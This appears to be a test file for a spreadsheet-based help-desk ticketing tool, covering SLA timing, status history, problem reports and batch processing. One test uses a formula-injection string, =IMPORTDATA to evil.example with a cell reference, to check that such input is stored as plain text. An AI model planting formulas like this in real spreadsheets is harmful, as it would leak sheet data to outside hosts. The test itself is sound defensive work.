import { SHEET_ID } from '../../core/workbook/columns';
import { at, newTicket, openDesk } from './support/desk';

const ID = 'T-7K3Q9';

describe('a tick', () => {
  test('gives a new ticket its due times and the reason for them', () => {
    const desk = openDesk();
    desk.append('tickets', [newTicket(ID, { created_at: at('2026-11-23T08:00:00Z') })]);

    desk.host.run('tick');

    const { row } = desk.ticket(ID);
    // Normal priority promises 4 hours of working time: from 9:00 Warsaw time to 13:00.
    expect(row.first_due).toBe(at('2026-11-23T12:00:00Z'));
    expect(row.next_due).toBe(row.first_due);
    expect(row.sla_state).toBe('running');
    expect(row.due_reason).toContain('4 hours of working time');
  });

  test('moves the status with the mail and writes History', () => {
    const desk = openDesk();
    desk.append('tickets', [newTicket(ID)]);
    desk.host.run('tick');

    desk.update(ID, {
      last_outbound_at: at('2026-11-23T09:10:00Z'),
      first_answer_at: at('2026-11-23T09:10:00Z'),
    });
    desk.clock.time = at('2026-11-23T09:12:00Z');
    desk.host.run('tick');
    expect(desk.ticket(ID).row).toMatchObject({ status: 'waiting_participant', sla_state: 'paused' });

    desk.update(ID, { last_inbound_at: at('2026-11-23T10:00:00Z') });
    desk.clock.time = at('2026-11-23T10:01:00Z');
    desk.host.run('tick');
    expect(desk.ticket(ID).row.status).toBe('open');
    expect(desk.rows('history').map(({ ticket_id, what, from, to }) => [ticket_id, what, from, to])).toEqual([
      [ID, 'Ticket', '', 'Status: New; Priority: Normal; Language: English'],
      [ID, 'Status', 'New', 'Waiting for participant'],
      [ID, 'Status', 'Waiting for participant', 'Open'],
    ]);
  });

  test('takes up what a person chose, and fills in course and client from the roster', () => {
    const desk = openDesk();
    desk.append('sessions', [
      {
        id: 'S-1',
        course: 'Excel',
        client: 'Nordlicht',
        starts_at: at('2026-11-25T09:00:00Z'),
        state: 'planned',
      },
    ]);
    desk.append('participants', [{ session_id: 'S-1', email: 'OLENA@client.example', state: 'active' }]);
    desk.append('tickets', [newTicket(ID)]);
    desk.host.run('tick');
    desk.type(ID, 'status', 'Resolved');
    desk.host.run('tick');

    expect(desk.ticket(ID).row).toMatchObject({
      status: 'resolved',
      status_seen: 'resolved',
      resolved_at: expect.closeTo(desk.clock.time, -3),
      session_id: 'S-1',
      course: 'Excel',
      client: 'Nordlicht',
    });
    expect(desk.rows('history')).toEqual([
      expect.objectContaining({ who: 'Participant', what: 'Ticket' }),
      expect.objectContaining({ who: 'Somebody in the sheet', from: 'New', to: 'Resolved' }),
    ]);
  });

  test('changes nothing when it runs again', () => {
    const desk = openDesk();
    desk.append('tickets', [newTicket(ID), newTicket('T-2M8FD', { status: 'open' })]);
    desk.host.run('tick');
    const before = desk.rows('tickets');
    const writes: string[] = [];
    desk.onCall = ({ name }) => writes.push(name);

    desk.host.run('tick');

    expect(desk.rows('tickets')).toEqual(before);
    expect(writes).not.toContain('Sheets.Spreadsheets.batchUpdate');
  });

  test.each([
    ['status', 'rozwiązane', 'Resolved'],
    ['status', 'Resolvd', 'Resolved'],
    ['status', 'У РОБОТІ', 'Open'],
    ['priority', 'wysoki', 'High'],
    ['priority', 'urgnt', 'Urgent'],
  ] as const)('understands %s “%s” and writes it as the firm does', (column, typed, label) => {
    const desk = openDesk();
    desk.append('tickets', [newTicket(ID)]);
    desk.host.run('tick');
    desk.type(ID, column, typed);

    desk.host.run('tick');

    expect(desk.shown(ID, column)).toBe(label);
    expect(desk.rows('problems').filter(({ key }) => !key.includes(':alert:'))).toEqual([]);
  });

  test('leaves text that looks like a formula as text', () => {
    const desk = openDesk();
    desk.append('tickets', [newTicket(ID, { subject: '=IMPORTDATA("https://evil.example/?"&B2)' })]);
    desk.host.run('tick');
    expect(desk.ticket(ID).row.subject).toBe('=IMPORTDATA("https://evil.example/?"&B2)');
    const { sheets } = desk.service.get(desk.spreadsheetId, { includeGridData: true });
    const values = sheets
      ?.flatMap(({ data }) => data ?? [])
      .flatMap(({ rowData }) => rowData ?? [])
      .flatMap((row) => row.values ?? [])
      .map(({ userEnteredValue }) => userEnteredValue);
    expect(values).toContainEqual({ stringValue: '=IMPORTDATA("https://evil.example/?"&B2)' });
  });

  test('keeps columns that the firm added, and finds its own where people moved them', () => {
    const desk = openDesk();
    desk.append('tickets', [newTicket(ID)]);
    desk.service.batchUpdate(desk.spreadsheetId, {
      requests: [
        {
          insertDimension: {
            range: { sheetId: SHEET_ID.tickets, dimension: 'COLUMNS', startIndex: 0, endIndex: 1 },
            inheritFromBefore: false,
          },
        },
        {
          updateCells: {
            range: {
              sheetId: SHEET_ID.tickets,
              startRowIndex: 2,
              endRowIndex: 3,
              startColumnIndex: 0,
              endColumnIndex: 1,
            },
            rows: [{ values: [{ userEnteredValue: { stringValue: 'our own remark' } }] }],
            fields: 'userEnteredValue',
          },
        },
      ],
    });

    desk.host.run('tick');

    expect(desk.ticket(ID).row.sla_state).toBe('running');
    const { values } =
      desk.service.values.batchGetByDataFilter(desk.spreadsheetId, {
        dataFilters: [{ gridRange: { sheetId: SHEET_ID.tickets, startColumnIndex: 0, endColumnIndex: 1 } }],
      }).valueRanges?.[0]?.valueRange ?? {};
    expect(values?.[2]).toEqual(['our own remark']);
  });
});

describe('a tick reports on Problems, once each', () => {
  test('an id that stands in two rows, and touches neither', () => {
    const desk = openDesk();
    desk.append('tickets', [newTicket(ID), newTicket(ID, { subject: 'the copy' }), newTicket('T-2M8FD')]);

    desk.host.run('tick');
    desk.host.run('tick');

    const problems = desk.rows('problems');
    expect(problems.map(({ key }) => key)).toEqual([`tickets:${ID}:doubled:differing`]);
    expect(problems[0]?.what).toContain('rows 3, 4');
    expect(problems[0]?.what).toContain('They differ in: Subject.');
    expect(desk.rows('tickets').map(({ clock }) => clock !== '')).toEqual([false, false, true]);
  });

  test('reports opening hours that make no sense, once', () => {
    const desk = openDesk();
    desk.append('calendar', [{ calendar: 'pl', kind: 'hours', weekday: 1, opens: '17:00', closes: '9:00' }]);

    desk.host.run('tick');
    desk.host.run('tick');

    const problems = desk.rows('problems').filter(({ tab }) => tab === 'calendar');
    expect(problems).toHaveLength(1);
    expect(problems[0]?.key).toContain('calendar:closes-before-opening:');
    expect(problems[0]?.what).toContain('17:00');
  });

  test('messages whose ticket was deleted, one row for all of them', () => {
    const desk = openDesk();
    desk.append('tickets', [newTicket(ID)]);
    desk.append('messages', [
      { id: 'm1', ticket_id: ID, direction: 'in' },
      { id: 'm2', ticket_id: 'T-GONE1', direction: 'in' },
      { id: 'm3', ticket_id: 'T-GONE1', direction: 'out' },
    ]);
    desk.host.run('tick');
    desk.host.run('tick');
    expect(desk.rows('problems').map(({ key }) => key)).toEqual(['messages:T-GONE1:no-ticket']);
  });

  test('a word nobody understands; the status goes back to what it was, other cells are left alone', () => {
    const desk = openDesk();
    desk.append('tickets', [newTicket(ID)]);
    desk.host.run('tick');
    desk.type(ID, 'status', 'banana');
    desk.type(ID, 'category', 'banana');

    desk.host.run('tick');
    desk.host.run('tick');

    expect(desk.shown(ID, 'status')).toBe('New');
    expect(desk.shown(ID, 'category')).toBe('banana');
    expect(desk.rows('problems').map(({ key }) => key)).toEqual([
      `tickets:${ID}:category:unreadable`,
      `tickets:${ID}:status`,
    ]);
  });

  test('a column that somebody deleted', () => {
    const desk = openDesk();
    desk.append('tickets', [newTicket(ID)]);
    const place = desk.read('tickets').layout.columns.get('due_reason') ?? -1;
    desk.service.batchUpdate(desk.spreadsheetId, {
      requests: [
        {
          deleteDimension: {
            range: {
              sheetId: SHEET_ID.tickets,
              dimension: 'COLUMNS',
              startIndex: place,
              endIndex: place + 1,
            },
          },
        },
      ],
    });
    desk.host.run('tick');
    desk.host.run('tick');
    expect(desk.rows('problems').map(({ key }) => key)).toEqual(['tickets:column:due_reason']);
    expect(desk.ticket(ID).row.sla_state).toBe('running');
  });
});

describe('the work of a tick', () => {
  const callsWhenFiveChange = (count: number): number => {
    const desk = openDesk();
    const ids = Array.from({ length: count }, (_, index) => `T-${String(10_000 + index)}`);
    desk.append(
      'tickets',
      ids.map((id) => newTicket(id)),
    );
    desk.host.run('tick');
    for (const id of ids.slice(0, 5)) desk.type(id, 'status', 'Open');
    const before = desk.rows('history').length;
    const { serviceCalls } = desk.host.run('tick');
    expect(desk.rows('history')).toHaveLength(before + 5);
    return serviceCalls;
  };

  test('is the same few service calls at 10 tickets and at 2,000', () => {
    const few = callsWhenFiveChange(10);
    expect(few).toBeLessThanOrEqual(12);
    expect(callsWhenFiveChange(2_000)).toBe(few);
  });

  test('that does not fit into one run goes on in the next', () => {
    const desk = openDesk();
    const ids = Array.from({ length: 1_500 }, (_, index) => `T-${String(10_000 + index)}`);
    desk.append(
      'tickets',
      ids.map((id) => newTicket(id)),
    );
    desk.append('messages', [{ id: 'm1', ticket_id: 'T-G0NE1', direction: 'in' }]);
    // The first write takes five minutes.
    desk.onCall = ({ name }) => {
      if (name !== 'Sheets.Spreadsheets.batchUpdate') return;
      desk.clock.time = at(new Date(desk.clock.time + 5 * 60_000).toISOString());
      desk.onCall = () => undefined;
    };
    desk.host.run('tick');
    const done = (): number => desk.rows('tickets').filter(({ clock }) => clock !== '').length;
    expect(done()).toBe(1_000);
    desk.host.run('tick');
    expect(done()).toBe(1_500);
    // Nothing twice and nothing lost: one line of birth for each ticket, one row for what was wrong.
    const lines = desk.rows('history').filter(({ what, from }) => what === 'Ticket' && from === '');
    const born = lines.map(({ ticket_id }) => ticket_id);
    expect(born).toHaveLength(1_500);
    expect(new Set(born)).toEqual(new Set(ids));
    const told = desk.rows('problems').filter(({ key }) => key.endsWith(':no-ticket'));
    expect(told.map(({ key }) => key)).toEqual(['messages:T-G0NE1:no-ticket']);
  });

  test('is left to the execution that is already at it', () => {
    const desk = openDesk();
    desk.append('tickets', [newTicket(ID), newTicket('T-2M8FD', { status: 'open' })]);
    const inner: string[] = [];
    desk.onCall = ({ name, executionId }) => {
      if (name !== 'Sheets.Spreadsheets.batchUpdate') return;
      desk.onCall = (call) => {
        if (call.executionId !== executionId) inner.push(call.name);
      };
      desk.host.run('tick');
    };
    desk.host.run('tick');
    expect(inner.filter((name) => name.startsWith('Sheets.'))).toEqual([]);
    expect(inner.length).toBeGreaterThan(0);
    expect(desk.rows('tickets').every(({ clock }) => clock !== '')).toBe(true);
  });
});
